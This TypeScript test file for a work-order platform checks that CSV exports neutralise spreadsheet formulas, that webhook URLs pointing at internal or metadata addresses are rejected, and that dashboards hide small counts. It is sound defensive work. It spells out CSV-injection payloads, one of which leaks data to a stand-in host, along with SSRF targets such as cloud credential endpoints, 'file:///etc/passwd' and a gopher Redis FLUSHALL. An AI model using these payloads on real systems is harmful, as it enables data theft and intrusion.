import { parse } from 'csv-parse/sync'
import { toGlobalId } from '../../functions/shared/ids'
import { mutate, type TokenClaims } from '../support/api'
import { begun, carriedOut, exportSeenBy } from '../support/exports'
import { type CellData, type DashboardData, dashboardOf } from '../support/insights'
import { newParty, orderOf, projectAll } from '../support/supervision'
import { newTenant, type Tenant } from '../support/tenant'
import { registered } from '../support/webhooks'
import { contactOf, report } from '../support/work-orders'

/** What leaves the platform for programs and people who trust it: files, requests of its own, and figures. */

let tenant: Tenant
beforeAll(async () => {
  tenant = await newTenant()
})

/** Cells that spreadsheets run, plainly or behind what they pass over; full-width forms that some make plain. */
const FORMULAS = [
  '=HYPERLINK("http://evil.invalid/?"&A1,"点这里")',
  "=cmd|'/c calc'!A0",
  '+1+cmd|"/c calc"!A0',
  '-2+3+cmd|"/c calc"!A0',
  '@SUM(1+1)*cmd|"/c calc"!A0',
  '  =1+1',
  '\t=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1＋1',
  '－1',
  '＠SUM(1)',
  '|cmd',
  '异响","=1+1',
  '异响\n=1+1,"',
]

test('no cell of an export runs in a spreadsheet, whatever a customer wrote', async () => {
  const modelId = toGlobalId('ProductModel', tenant.model.id)
  for (const [i, symptom] of FORMULAS.entries()) {
    // Each of another customer: what one reports again joins the open order.
    const contact = { ...contactOf(tenant), phone: `1390000${String(i).padStart(4, '0')}` }
    await report(tenant, { serial: undefined, modelId, symptom, contact }, 'HOTLINE')
  }
  const { id } = await begun(tenant, 'MANUFACTURER', { format: 'CSV' })
  await carriedOut(id)
  const file = (await exportSeenBy(tenant, 'MANUFACTURER', id))?.files[0]
  const text = await (await fetch(file?.url ?? '')).text()
  const rows: readonly string[][] = parse(text, { bom: true })
  expect(rows).toHaveLength(FORMULAS.length + 1)
  expect(new Set(rows.map((row) => row.length)).size).toBe(1)
  for (const value of rows.flat()) expect(value).not.toMatch(/^\s*[=+\-@|＝＋－＠]/)
})

/** Where a machine finds itself, its neighbours or its credentials, in the forms that parsers differ about. */
const WITHIN = [
  'http://hooks.example.cn/',
  'https://localhost/',
  'https://LOCALHOST./',
  'https://127.0.0.1/',
  'https://127.1/',
  'https://2130706433/',
  'https://0x7f.1/',
  'https://0177.0.0.1/',
  'https://①②⑦.0.0.1/',
  'https://127。0。0。1/',
  'https://[::1]/',
  'https://[::ffff:7f00:1]/',
  'https://[64:ff9b::7f00:1]/',
  'https://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'https://[fd00:ec2::254]/latest/meta-data/',
  'https://100.100.100.200/latest/meta-data/',
  'https://metadata.google.internal/',
  'https://10.0.0.1/',
  'https://hooks.example.cn@127.0.0.1/',
  'https://127.0.0.1#@hooks.example.cn/',
  'https://127.0.0.1\\@hooks.example.cn/',
  'https://user:password@hooks.example.cn/',
  'https://user@hooks.example.cn/',
  'https://hooks.example.cn:22/',
  'file:///etc/passwd',
  'gopher://127.0.0.1:6379/_FLUSHALL',
  'javascript:alert(1)',
  '//hooks.example.cn/',
]

test('no address within is one to send to, neither at first nor later', async () => {
  const viewer = tenant.as.MANUFACTURER
  const { id, version } = await registered(viewer)
  const select = 'webhookEndpoint { url }'
  for (const url of WITHIN) {
    const input = { url, types: ['WORK_ORDER_REPORTED'] }
    const first = await mutate({ name: 'webhookEndpointRegister', viewer, input, select })
    const later = await mutate({ name: 'webhookEndpointChange', viewer, input: { id, version, url }, select })
    for (const { object, userErrors } of [first, later])
      expect([url, object, userErrors.map(({ code }) => code)]).toEqual([url, null, ['WEBHOOK_URL']])
  }
})

/** How many customers there were in each county of a prefecture: alone, alike, few, many. */
const COUNTIES = { '640402': 1, '640422': 1, '640423': 9, '640424': 30 }
type Row = Readonly<Record<string, CellData>>

/**
 * What of hidden cells the total and the shown ones tell: all, if one is hidden; all, if as much is hidden as there are cells,
 * or four times that, since a hidden cell has 1 to 4 unless there is another reason to hide it.
 */
const told = (total: CellData | undefined, parts: readonly (CellData | undefined)[]): boolean => {
  const hidden = parts.filter((part) => part?.suppressed).length
  const rest = parts.reduce((left, part) => left - (part?.value ?? 0), total?.value ?? Number.NaN)
  return hidden > 0 && (hidden === 1 || rest === hidden || rest === 4 * hidden)
}

test('an authority subtracts what one answer shows from its totals, and finds no small cell', async () => {
  const days = ['2026-10-01', '2026-10-02', '2026-10-03']
  const orders = Object.entries(COUNTIES).flatMap(([region, count]) =>
    Array.from({ length: count }, (_, i) =>
      orderOf(newParty(region), { reportedOn: days[count < 2 ? 2 : i % 2] ?? '' }),
    ),
  )
  await projectAll(orders)
  const region = '640400'
  const viewer: TokenClaims = { role: 'REGULATOR', sub: 'regulator', region }
  const { data, errors } = await dashboardOf({ viewer, scope: { region } })
  expect(errors).toEqual([])
  const { figures, now, children, trend, timeToAccept, timeToComplete } = data.dashboard as DashboardData
  const lists: [string, CellData | undefined, (CellData | undefined)[]][] = [
    ...columns(
      'regions',
      figures,
      children.map((child) => child.figures),
    ),
    ...columns(
      'regions now',
      now,
      children.map((child) => child.now),
    ),
    ...columns(
      'days',
      figures,
      trend.map((point) => point.figures),
    ),
    ['to complete', figures['completed'], timeToComplete.bins.map(({ count }) => count)],
    ['to accept', figures['completed'], timeToAccept.bins.map(({ count }) => count)],
  ]
  // It shows something, hides something, and none of it can be told.
  expect(figures['completed']).toEqual({ value: 41, suppressed: false })
  expect(children.filter((child) => child.figures['completed']?.suppressed)).toHaveLength(3)
  expect(lists.filter(([, total, parts]) => told(total, parts)).map(([name]) => name)).toEqual([])
  const shown = lists.flatMap(([, ...cells]) => cells.flat()).flatMap((cell) => cell?.value ?? [])
  expect(shown.filter((count) => count > 0 && count < 5)).toEqual([])
})

const columns = (name: string, totals: Row, rows: readonly Row[]) =>
  ['reported', 'completed', 'late', 'disputed', 'answered', 'open', 'overdue']
    .filter((figure) => figure in totals)
    .map((figure): [string, CellData | undefined, (CellData | undefined)[]] => [
      `${figure} of ${name}`,
      totals[figure],
      rows.map((row) => row[figure]),
    ])
